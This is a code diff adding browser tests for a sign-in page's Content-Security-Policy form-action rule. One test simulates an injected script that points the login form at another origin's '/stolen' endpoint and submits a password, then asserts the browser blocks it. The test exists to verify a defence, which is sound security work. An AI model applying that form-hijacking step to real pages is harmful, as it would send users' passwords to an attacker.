@@ -25,6 +25,28 @@ async function signIn(page, password = 'Correct-Horse-1') {
   await page.getByRole('button', { name: 'Continue' }).click()
 }
 
+// Chromium holds every redirect that follows a form to form-action, also those of the application.
+visit('callback-forwards-to-another-origin-of-the-application', {}, async page => {
+  app.home = app.origin.replace('127.0.0.1', 'localhost') + '/'
+  await page.goto(`${app.origin}/sign-in`)
+  await signIn(page)
+  await heading(page, 'Hello ada@example.com')
+  assert.equal(page.url(), app.home)
+})
+
+visit('injected-form-target-gets-no-password', { violates: 'form-action' }, async page => {
+  await page.goto(`${app.origin}/sign-in`)
+  const visits = partner.visits
+  await page.evaluate(target => { document.forms[0].action = target }, `${partner.origin}/stolen`)
+  await page.getByLabel('Email address').fill('ada@example.com')
+  await page.getByLabel('Password', { exact: true }).fill('Correct-Horse-1')
+  const refusal = page.waitForEvent('console', message => message.text().includes('form-action'))
+  await page.evaluate(() => document.forms[0].requestSubmit())
+  await refusal
+  assert.ok(page.url().startsWith(issuer), page.url())
+  assert.equal(partner.visits, visits)
+})
+
 for (const javaScriptEnabled of [true, false]) {
   const suffix = javaScriptEnabled ? 'with-scripts' : 'without-scripts'
   const options = { javaScriptEnabled }
